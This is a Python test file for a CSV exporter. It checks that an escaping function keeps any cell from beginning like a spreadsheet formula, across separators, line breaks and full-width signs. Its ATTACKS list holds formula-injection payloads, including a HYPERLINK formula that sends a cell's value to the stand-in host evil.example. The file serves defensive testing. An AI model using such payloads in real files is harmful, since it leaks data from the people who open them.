"""No cell that any spreadsheet could cut out of our CSV begins like a formula."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import polars as pl
import pytest
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st

from kuule.core.formula_escaping import NUMBER_PATTERN, escape_formulas
from kuule.dataset.exports.csv_files import write_csv
from tests.sampling import examples

SEPARATORS = (",", ";", "\t", "|")
SIGNS = "=+-@＝＋－＠"
ATTACKS = (
    'Hello;=HYPERLINK("http://evil.example/?x="&A2;"open")',
    "first line\n=HYPERLINK(1)",
    "first line\r\n=1+1",
    "a\r=1",
    "a\t=1",
    "a|=1",
    'a;"=1+1"',
    "a; =1",
    "a;\xa0＝1",
    "a;\n@SUM(1)",
    "a;;;-2+3",
    "a\u2028=1",
    "=1;=2;=3",
    '"=1"',
    "  =1",
)
PIECES = st.lists(st.sampled_from(["=", "-", "@", "＝", ";", ",", "\t", "|", "\n", "\r", '"', "'", " ", "a", "1"]))


def cells(text: str) -> set[str]:
    """What programs of four lands make of a line in which the text stands behind another column."""
    written = io.StringIO()
    csv.writer(written, lineterminator="\n").writerow(["x", text, "y"])
    found = set()
    for separator in SEPARATORS:
        for line in (written.getvalue(), *written.getvalue().splitlines()):
            for row in csv.reader(io.StringIO(line, newline=""), delimiter=separator):
                found.update(cell.lstrip(' \xa0"') for cell in row)
    return found


def runs(text: str) -> list[str]:
    return [cell for cell in cells(text) if cell[:1] and cell[0] in SIGNS]


@pytest.mark.parametrize("text", ATTACKS)
def test_formula_behind_any_separator_or_line_break_is_no_formula(text: str) -> None:
    assert runs(text) != []
    assert runs(escape_formulas(text)) == []


@given(PIECES)
@settings(max_examples=examples(300))
def test_no_text_makes_a_cell_that_begins_like_a_formula(pieces: list[str]) -> None:
    text = "".join(pieces)
    assume(re.fullmatch(NUMBER_PATTERN, text) is None)
    assert runs(escape_formulas(text)) == []


@pytest.mark.parametrize("text", ["-1", "+2.5", "a-b", "well-known; not = that", "a = b", "mail at a@b", "'=1", ""])
def test_text_without_a_formula_stays_as_it_was(text: str) -> None:
    assert escape_formulas(text) == text


@given(st.lists(PIECES.map("".join), min_size=1, max_size=5))
@settings(max_examples=examples(50), suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_a_column_and_a_text_are_made_harmless_alike(tmp_path: Path, texts: list[str]) -> None:
    write_csv(pl.DataFrame({"text": texts, "last": ["x"] * len(texts)}), tmp_path / "out.csv")
    with (tmp_path / "out.csv").open(encoding="utf-8", newline="") as file:
        assert [row["text"] for row in csv.DictReader(file)] == [escape_formulas(text) for text in texts]
